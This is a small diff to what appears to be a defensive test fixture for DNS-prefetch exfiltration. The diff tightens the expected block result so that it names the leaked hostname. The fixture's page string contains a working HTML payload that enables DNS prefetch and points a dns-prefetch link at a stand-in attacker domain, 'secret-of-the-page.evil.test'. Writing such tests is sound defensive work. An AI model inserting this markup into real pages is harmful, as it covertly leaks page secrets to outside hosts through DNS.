@@ -12,7 +12,9 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["W3C Resource Hints", "ATT&CK T1048.003"],
     "arrives": [{"what": "question", "name": "*.evil.test"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["dns"]}],
+    "stopped": [
+        {"reason": ["not-listed"], "entry": ["dns"], "where": {"name": "secret-of-the-page.evil.test"}}
+    ],
     "page": "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch "
     "href='//secret-of-the-page.evil.test'><h1>News</h1>",
 }
